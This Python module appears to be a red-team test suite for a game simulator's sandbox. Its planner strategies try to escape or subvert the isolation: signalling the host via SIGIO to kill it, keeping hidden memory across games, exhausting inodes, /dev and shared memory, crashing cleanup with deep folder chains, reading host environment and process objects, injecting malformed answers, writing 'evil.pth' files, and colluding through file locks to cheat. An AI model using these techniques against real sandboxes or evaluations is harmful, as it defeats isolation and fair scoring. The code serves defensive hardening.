# ruff: noqa: SIM115, B023  (attack code: short-lived files, probes in loops)
"""Hostile strategies of a third independent pass on ``--isolate`` (benchmarks/hostile_pass3).

Each plays like a planner and reports on stderr (``HOSTILE <name>: ...``), which reaches the
run's terminal marked as the guest's."""

from __future__ import annotations

import ctypes
import fcntl
import gc
import json
import os
import signal
import sys
import time
import typing

from sims.strategies.planner import Planner

F_SETSIG = 10  # linux/fcntl.h


def say(name: str, text: str) -> None:
    sys.stderr.write(f"HOSTILE {name}: {text}\n")
    sys.stderr.flush()


def _try(fn):
    try:
        return fn()
    except BaseException as exc:
        return f"{type(exc).__name__}: {exc}"


# ------------------------------------------------------------------ signalling the host
def sigio_to(pid: int, sig: int) -> str:
    """Have the kernel send ``sig`` to ``pid`` (no kill(2): the seccomp filter denies it):
    the read end of a pipe of our own gets O_ASYNC, owner ``pid``, signal ``sig``; a write
    to the pipe makes the kernel deliver it (sigio_perm: same uid is enough)."""
    r, w = os.pipe()
    fcntl.fcntl(r, fcntl.F_SETOWN, pid)
    fcntl.fcntl(r, F_SETSIG, sig)
    fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(w, b"x")
    return f"F_SETOWN {pid} F_SETSIG {sig} O_ASYNC on a pipe; wrote 1 byte"


class SigioHost(Planner):
    """SIGINT to the host (pid 1 of the sandbox) through SIGIO ownership of a pipe: Python's
    default handler raises KeyboardInterrupt in the host, which dies; the worker reads its
    end as the machine's (GuestLost) and voids or replays the game."""

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        say("SigioHost", _try(lambda: sigio_to(1, signal.SIGINT)))
        time.sleep(0.5)


class SigioWhenSecond(Planner):
    """The same, only in the games where it sits second: the games it chooses are voided."""

    def decide(self, view):
        if view.seat == 1:
            say("SigioWhenSecond", f"seat {view.seat}: " + _try(lambda: sigio_to(1, signal.SIGINT)))
            time.sleep(0.5)
        return super().decide(view)


class SigioProbe(Planner):
    """Which signals reach pid 1 through SIGIO ownership: SIGTERM/SIGKILL/SIGSTOP (default
    handlers: an init of its pid namespace ignores them), then SIGINT last."""

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        for sig in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGUSR1):
            say("SigioProbe", f"sig {sig}: " + _try(lambda: sigio_to(1, sig)))
            time.sleep(0.3)
        say("SigioProbe", "host still alive after SIGTERM/KILL/STOP/USR1 via SIGIO")


# ------------------------------------------------------------------ memory across games
LOCKED = "/tmp/locked"
MEMO = LOCKED + "/memo.json"


def _memo_read() -> dict:
    try:
        os.chmod(LOCKED, 0o700)
        with open(MEMO) as file:
            return json.load(file)
    except (OSError, ValueError):
        return {"games": 0, "deals": {}}


def _memo_write(memo: dict) -> None:
    os.makedirs(LOCKED, exist_ok=True)
    os.chmod(LOCKED, 0o700)
    with open(MEMO, "w") as file:
        json.dump(memo, file)
    os.chmod(LOCKED, 0)  # the host (no capabilities) can neither list nor empty it


class LockedMemo(Planner):
    """Memory across games of a host in its private /tmp: a folder of mode 000, which the
    host's cleanup (``_empty_tmp``: os.walk, unlink, rmdir) cannot list, so cannot empty.
    Counts games, and remembers each deal's opening hand by its face-up row; in a paired
    study (pairing = "seatings") a deal seen before from the other seat tells the hand the
    rival holds now."""

    first = True

    def decide(self, view):
        if self.first:
            self.first = False
            memo = _memo_read()
            memo["games"] += 1
            key = repr(view.face_up)
            seen = memo["deals"].get(key)
            if seen is not None and seen["seat"] != view.seat:
                say(
                    "LockedMemo",
                    f"game {memo['games']} seat {view.seat}: deal seen before from seat "
                    f"{seen['seat']}; the rival's opening hand is {seen['hand']} tickets "
                    f"{seen['held']} (mine now {list(view.hand)})",
                )
            else:
                say("LockedMemo", f"game {memo['games']} seat {view.seat}: new deal")
            memo["deals"][key] = {
                "seat": view.seat,
                "hand": list(view.hand),
                "held": list(view.held_ids) + list(view.offer_ids),
            }
            _memo_write(memo)
        return super().decide(view)


class DeepMemo(Planner):
    """Memory across games through a folder chain deeper than PATH_MAX (4096): the host's
    cleanup joins whole paths, which the kernel refuses past that length (ENAMETOOLONG)."""

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        here = os.getcwd()
        try:
            os.chdir("/tmp")
            name = "d" * 200
            for _ in range(25):  # 25 x 201 > 4096
                if not os.path.isdir(name):
                    os.mkdir(name)
                os.chdir(name)
            count = 0
            if os.path.exists("count"):
                with open("count") as file:
                    count = int(file.read())
            with open("count", "w") as file:
                file.write(str(count + 1))
            say("DeepMemo", f"games seen before this one: {count}")
        except OSError as exc:
            say("DeepMemo", f"{type(exc).__name__}: {exc}")
        finally:
            os.chdir(here)


# ------------------------------------------------------------------ System V IPC
libc = None


def _libc():
    global libc
    if libc is None:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
        libc.shmdt.argtypes = [ctypes.c_void_p]
        libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    return libc


IPC_CREAT = 0o1000
MEMO_KEY = 0x4D454D4F


class IpcMemo(Planner):
    """Memory across games in a System V shared memory segment: the sandbox's IPC namespace
    lives as long as its host (every game of a worker), not a game."""

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        try:
            c = _libc()
            sid = c.shmget(MEMO_KEY, 4096, IPC_CREAT | 0o600)
            if sid < 0:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            addr = c.shmat(sid, None, 0)
            if addr in (None, ctypes.c_void_p(-1).value):
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            counter = ctypes.c_int.from_address(addr)
            say("IpcMemo", f"games seen before this one: {counter.value}")
            counter.value += 1
            c.shmdt(addr)
        except Exception as exc:
            say("IpcMemo", f"{type(exc).__name__}: {exc}")


class IpcHog(Planner):
    """Memory past the address-space limit (1 GiB): segments of 512 MiB, each attached,
    filled and detached in turn; they stay in the host's IPC namespace after the game."""

    SEGMENTS = 4
    SIZE = 512 << 20

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        try:
            c = _libc()
            made = 0
            for i in range(self.SEGMENTS):
                sid = c.shmget(0, self.SIZE, IPC_CREAT | 0o600)  # IPC_PRIVATE
                if sid < 0:
                    say("IpcHog", f"shmget {i}: {os.strerror(ctypes.get_errno())}")
                    break
                addr = c.shmat(sid, None, 0)
                if addr in (None, ctypes.c_void_p(-1).value):
                    say("IpcHog", f"shmat {i}: {os.strerror(ctypes.get_errno())}")
                    break
                ctypes.memset(addr, 7, self.SIZE)
                c.shmdt(addr)
                made += 1
            with open("/proc/sysvipc/shm") as file:
                rows = file.read().splitlines()[1:]
            total = sum(int(r.split()[3]) for r in rows)
            rss = [ln for ln in open("/proc/self/status") if ln.startswith(("VmRSS", "VmPeak"))]
            say(
                "IpcHog",
                f"made {made} segments now; the IPC namespace holds {len(rows)} segments, "
                f"{total >> 20} MiB (RLIMIT_AS 1024 MiB); this process: "
                f"{' '.join(' '.join(r.split()) for r in rss)}",
            )
        except Exception as exc:
            say("IpcHog", f"{type(exc).__name__}: {exc}")


# ------------------------------------------------------------------ /dev and tmpfs inodes
class DevWrite(Planner):
    """Whether /dev (bwrap's own tmpfs, not the remounted root) takes files, how big, and
    whether they outlive the game (the host empties only /tmp and /dev/shm)."""

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        out = {"listdir": _try(lambda: sorted(os.listdir("/dev")))}
        st = _try(lambda: os.statvfs("/dev"))
        out["statvfs"] = _try(lambda: f"{st.f_blocks * st.f_frsize >> 20} MiB, {st.f_files} inodes")
        out["before"] = _try(lambda: open("/dev/memo").read())

        def write():
            with open("/dev/memo", "a") as file:
                file.write("x")
            return os.path.getsize("/dev/memo")

        out["write /dev/memo"] = _try(write)
        out["mqueue"] = _try(lambda: os.listdir("/dev/mqueue"))
        say("DevWrite", json.dumps(out, default=str)[:1500])


class InodeFlood(Planner):
    """Kernel memory the tmpfs size limit does not count: empty files cost inodes and
    dentries, not blocks. A thread creates them through the game (its CPU time only); the
    host then unlinks them after the game, on its own time."""

    FILES = 200_000

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        os.makedirs("/tmp/flood", exist_ok=True)
        start = time.perf_counter()
        slab0 = _meminfo("Slab")
        made = 0
        try:
            for i in range(self.FILES):
                os.close(os.open(f"/tmp/flood/{i}", os.O_CREAT | os.O_WRONLY, 0o600))
                made += 1
        except OSError as exc:
            say("InodeFlood", f"stopped at {made}: {exc}")
        st = os.statvfs("/tmp")
        say(
            "InodeFlood",
            f"{made} files in {time.perf_counter() - start:.1f} s; /tmp inodes used "
            f"{st.f_files - st.f_ffree} of {st.f_files}, blocks free "
            f"{st.f_bfree * st.f_frsize >> 20} MiB; host Slab {slab0} -> {_meminfo('Slab')} kB",
        )


def _meminfo(name: str) -> int:
    with open("/proc/meminfo") as file:
        for line in file:
            if line.startswith(name + ":"):
                return int(line.split()[1])
    return -1


class LockedFlood(Planner):
    """InodeFlood in a folder of mode 000: never emptied, so each game adds to it."""

    FILES = 100_000

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        d = "/tmp/lockedflood"
        os.makedirs(d, exist_ok=True)
        os.chmod(d, 0o700)
        before = len(os.listdir(d))
        for i in range(before, before + self.FILES):
            os.close(os.open(f"{d}/{i}", os.O_CREAT | os.O_WRONLY, 0o600))
        os.chmod(d, 0)
        say("LockedFlood", f"files there before this game: {before}; now {before + self.FILES}")


# ------------------------------------------------------------------ reading outside
class Probe3(Planner):
    """What a game's process sees: mounts (host paths), pid 1, its own fds, sysvipc, the
    host's memory left in its own (forked) heap."""

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        out = {
            "pids": sorted(p for p in os.listdir("/proc") if p.isdigit()),
            "1/cmdline": _try(lambda: open("/proc/1/cmdline", "rb").read().split(b"\0")),
            "1/status": _try(
                lambda: [
                    ln.strip()
                    for ln in open("/proc/1/status")
                    if ln.startswith(("Name", "Uid", "Seccomp", "NoNewPrivs"))
                ]
            ),
            "1/environ": _try(lambda: open("/proc/1/environ", "rb").read()[:200]),
            "1/fd": _try(lambda: os.listdir("/proc/1/fd")),
            "self/fd": {
                f: _try(lambda: os.readlink(f"/proc/self/fd/{f}"))
                for f in os.listdir("/proc/self/fd")
            },
            "mountinfo": _try(
                lambda: [ln.split()[4] + " " + ln.split()[5] for ln in open("/proc/self/mountinfo")]
            ),
            "uid_map": _try(lambda: open("/proc/self/uid_map").read()),
            "hostname": _try(os.uname),
            "env": dict(os.environ),
            "net": _try(lambda: os.listdir("/sys/class/net")),
            "home": _try(lambda: os.listdir(os.path.expanduser("~"))),
        }
        # the host's own objects, inherited by fork: what the host read on its control pipe
        found = []
        for obj in gc.get_objects():
            if type(obj).__name__ in ("_Control", "_Channel"):
                found.append((type(obj).__name__, _try(lambda: dict(vars(obj)))))
        out["host objects"] = str(found)[:600]
        say("Probe3", json.dumps(out, default=str)[:3800])


class StderrRead(Planner):
    """Its stderr is the worker's file opened O_RDWR: read back and truncate what the host
    wrote there, and re-open it through /proc/self/fd/2 without O_APPEND."""

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        out = {
            "flags": _try(lambda: oct(fcntl.fcntl(2, fcntl.F_GETFL))),
            "read": _try(lambda: os.pread(2, 300, 0)),
            "reopen": _try(lambda: os.open("/proc/self/fd/2", os.O_RDWR)),
            "link": _try(lambda: os.readlink("/proc/self/fd/2")),
        }
        say("StderrRead", json.dumps(out, default=str))


# ------------------------------------------------------------------ raw answers
def _channel():
    for obj in gc.get_objects():
        if type(obj).__name__ == "_Channel":
            return obj
    raise RuntimeError("no channel")


class RawAnswer(Planner):
    """Writes answers straight on the game pipe, skipping the host's own encoding: each a
    malformed form of a legal action (KNOB ``form`` picks it)."""

    FORMS: typing.ClassVar[dict[str, str]] = {
        "nan_slot": '{"action": {"type": "draw_face_up", "slot": NaN}}',
        "float_slot": '{"action": {"type": "draw_face_up", "slot": 0.0}}',
        "true_slot": '{"action": {"type": "draw_face_up", "slot": true}}',
        "neg_slot": '{"action": {"type": "draw_face_up", "slot": -5}}',
        "str_slot": '{"action": {"type": "draw_face_up", "slot": "0"}}',
        "extra": '{"action": {"type": "draw_deck", "x": 1}}',
        "both": '{"action": {"type": "draw_deck"}, "shape": ["const", null]}',
        "dup": '{"action": {"type": "draw_deck"}, "action": {"type": "pass"}}',
        "shape_nan": '{"shape": ["action", "DrawFaceUp", [["float", "nan"]]]}',
        "shape_inf": '{"shape": ["action", "DrawFaceUp", [["float", "inf"]]]}',
        "shape_short": '{"shape": ["action", "DrawFaceUp", []]}',
        "shape_long": '{"shape": ["action", "DrawDeck", [["int", 1], ["int", 2]]]}',
        "shape_kd": '{"shape": ["action", "KeepDestinations", [["list", [["int", 0]]]]]}',
        "bigint": '{"action": {"type": "draw_face_up", "slot": 1' + "0" * 5000 + "}}",
        "utf16": '{"action": {"type": "draw_\\u0064eck"}}',
    }

    form = "nan_slot"

    def decide(self, view):
        action = super().decide(view)
        line = self.FORMS[self.form]
        channel = _channel()
        channel.writer.write(line.encode() + b"\n")
        channel.writer.flush()
        say("RawAnswer", f"wrote {self.form}: {line[:100]}")
        real = channel.write

        def swallow(message):  # the host's own write of this answer: dropped once
            channel.write = real

        channel.write = swallow
        return action


for _form in RawAnswer.FORMS:
    _name = "Raw_" + _form
    globals()[_name] = type(_name, (RawAnswer,), {"form": _form})


class SigMask(Planner):
    """The host's signal dispositions (pid 1), then SIGINT through SIGIO, and again."""

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        lines = [ln.strip() for ln in open("/proc/1/status") if ln.startswith(("Sig", "Shd"))]
        say("SigMask", f"pid 1 {lines}")
        mine = [ln.strip() for ln in open("/proc/self/status") if ln.startswith(("Sig", "Shd"))]
        say("SigMask", f"self {mine}")


# ------------------------------------------------------------------ the host's cleanup
def deep_chain(depth: int = 1200) -> str:
    """A chain of one-letter folders in /tmp, deeper than Python's recursion limit but short
    of PATH_MAX (2 x 1200 characters): the host's ``_empty_tmp`` walks /tmp with os.walk,
    which Python 3.11 writes recursively."""
    here = os.getcwd()
    os.chdir("/tmp")
    try:
        for _ in range(depth):
            os.mkdir("a")
            os.chdir("a")
    finally:
        os.chdir(here)
    return f"a chain of {depth} folders under /tmp"


class VoidDeep(Planner):
    """Its game's process leaves the chain and ends itself: the host's cleanup raises
    RecursionError, the host dies, and the worker reads its end as the machine's."""

    def decide(self, view):
        say("VoidDeep", f"seat {view.seat}: " + _try(deep_chain) + "; ending my process")
        os._exit(0)


class VoidDeepWhenSecond(Planner):
    """The same only when it sits second (any rule works: when behind, when its tickets look
    bad): the games it chooses are voided, the others count."""

    def decide(self, view):
        if view.seat == 1:
            say("VoidDeepWhenSecond", f"seat {view.seat}: " + _try(deep_chain))
            os._exit(0)
        return super().decide(view)


class DevHog(Planner):
    """Memory outside every limit in /dev: bwrap's /dev is a tmpfs of half the RAM, not
    remounted read-only, not emptied by the host; files of 16 MiB (RLIMIT_FSIZE) each."""

    FILES = 64  # 1 GiB a game

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        block = b"\x07" * (16 << 20)
        start = len([n for n in os.listdir("/dev") if n.startswith("hog")])
        made = 0
        try:
            for i in range(start, start + self.FILES):
                with open(f"/dev/hog{i}", "wb") as file:
                    file.write(block)
                made += 1
        except OSError as exc:
            say("DevHog", f"stopped: {exc}")
        st = os.statvfs("/dev")
        say(
            "DevHog",
            f"files before this game {start}, made {made}; /dev holds "
            f"{(st.f_blocks - st.f_bfree) * st.f_frsize >> 20} MiB",
        )


class EscapeWrite(Planner):
    """Writes where a guest must not: its own module, the code, the venv, Python, the root."""

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        import sims

        targets = [
            __file__,
            os.path.dirname(__file__) + "/hp3_new.py",
            os.path.dirname(sims.__file__) + "/evil.py",
            os.path.join(sys.prefix, "evil.pth"),
            os.path.join(os.path.dirname(os.__file__), "evil.py"),
            "/evil",
            "/usr/evil",
            "/proc/sys/kernel/hostname",
            "/dev/pts/evil",
        ]
        out = {}
        for t in targets:

            def w(t=t):
                with open(t, "a") as file:
                    file.write("# hp3\n")
                return "WRITTEN"

            out[t] = _try(w)
        out["ptmx"] = _try(lambda: os.open("/dev/ptmx", os.O_RDWR))
        say("EscapeWrite", json.dumps(out))


class SlowFirst(Planner):
    """An honest strategy that thinks 4 s over its first decision of each game (well inside
    the 10 s limit): time for an outside kill of its host (``kill_host.sh``)."""

    first = True

    def decide(self, view):
        if self.first:
            self.first = False
            time.sleep(4)
        return super().decide(view)


class CleanupStall(Planner):
    """The host's cleanup on its own time: a chain of 900 folders (short of the recursion
    limit, so the walk completes) with FILES empty files at its bottom; each unlink and
    each lstat the host does resolves 900 path components. Costs the game's process well
    under a second (relative paths); the host pays after the game, outside every limit."""

    FILES = 3000

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        start = time.perf_counter()
        here = os.getcwd()
        os.chdir("/tmp")
        for _ in range(900):
            os.mkdir("b")
            os.chdir("b")
        for i in range(self.FILES):
            os.close(os.open(str(i), os.O_CREAT | os.O_WRONLY, 0o600))
        os.chdir(here)
        say(
            "CleanupStall",
            f"900 folders, {self.FILES} files in {time.perf_counter() - start:.2f} s",
        )


class UtsMemo(Planner):
    """Memory across games in the sandbox's hostname (its own UTS namespace, as long as its
    host): /proc/sys/kernel/hostname is writable by the namespace's root."""

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        try:
            with open("/proc/sys/kernel/hostname") as file:
                name = file.read().strip()
            count = int(name[1:]) if name.startswith("n") and name[1:].isdigit() else 0
            with open("/proc/sys/kernel/hostname", "w") as file:
                file.write(f"n{count + 1}")
            say("UtsMemo", f"hostname was {name!r}: games seen before this one: {count}")
        except OSError as exc:
            say("UtsMemo", f"{type(exc).__name__}: {exc}")


class NetProbe(Planner):
    """Network: sockets of each family, and what interfaces exist."""

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        import socket

        out = {
            fam: _try(lambda fam=fam: socket.socket(getattr(socket, fam), socket.SOCK_STREAM))
            for fam in ("AF_INET", "AF_INET6", "AF_UNIX")
        }
        out["ifaces"] = _try(lambda: open("/proc/net/dev").read().split("\n")[2:])
        say("NetProbe", json.dumps(out, default=str))


# ------------------------------------------------------------------ collusion across sandboxes
class Colluder(Planner):
    """Two seats of one module, each in a sandbox of its own, talk through a POSIX record
    lock on the module file both sandboxes bind read-only (the same inode): the first of
    them to decide read-locks one byte at an offset that encodes its opening hand; the
    other asks the kernel (F_GETLK) for the first lock on the file and reads it back."""

    FLOCK = "hhqqi4x"  # struct flock on x86_64

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        self.fd = os.open(__file__, os.O_RDONLY)
        self.first = True

    def decide(self, view):
        if self.first:
            self.first = False
            import struct

            ask = struct.pack(self.FLOCK, fcntl.F_WRLCK, 0, 0, 0, 0)
            kind, _, start, _, _ = struct.unpack(
                self.FLOCK, fcntl.fcntl(self.fd, fcntl.F_GETLK, ask)
            )
            if kind == fcntl.F_UNLCK:
                value = 0
                for count in view.hand:
                    value = value * 16 + min(count, 15)
                value = value * 64 + len(view.hand)
                fcntl.lockf(self.fd, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, value, 0)
                say(
                    "Colluder",
                    f"seat {view.seat} published its hand {list(view.hand)} "
                    f"as a lock at offset {value}",
                )
            else:
                n = start % 64
                start //= 64
                hand = []
                for _ in range(n):
                    hand.append(start % 16)
                    start //= 16
                say("Colluder", f"seat {view.seat} read its partner's hand: {hand[::-1]}")
        return super().decide(view)


# ------------------------------------------------------------------ shared open files
class FileMemo(Planner):
    """Memory across games in what the host's open files keep while it lives: its stderr
    file (the worker's, on the machine's /tmp, opened O_RDWR and passed down) takes an
    access time (futimens; set past its mtime, relatime never moves it: 64 bits) and a mode
    (fchmod: 9 bits); the game pipe's open file description (shared with the host by fork)
    keeps F_SETSIG (6 bits). Counts games in each."""

    def __init__(self, rng, knobs=None):
        super().__init__(rng, knobs)
        base = 4_000_000_000 * 1_000_000_000  # year 2096, in ns
        st = os.fstat(2)
        by_atime = st.st_atime_ns - base if st.st_atime_ns >= base else 0
        os.utime(2, ns=(base + by_atime + 1, st.st_mtime_ns))
        by_mode = st.st_mode & 0o777 & ~0o600
        _try(lambda: os.fchmod(2, 0o600 | (by_mode + 1) % 0o200))
        reader = _channel().reader.fileno()
        by_sig = fcntl.fcntl(reader, 11)  # F_GETSIG
        fcntl.fcntl(reader, F_SETSIG, (by_sig + 1) % 64)
        say(
            "FileMemo",
            f"games seen before this one, by the stderr file's atime: {by_atime}, "
            f"its mode: {by_mode}, the game pipe's F_GETSIG: {by_sig}",
        )
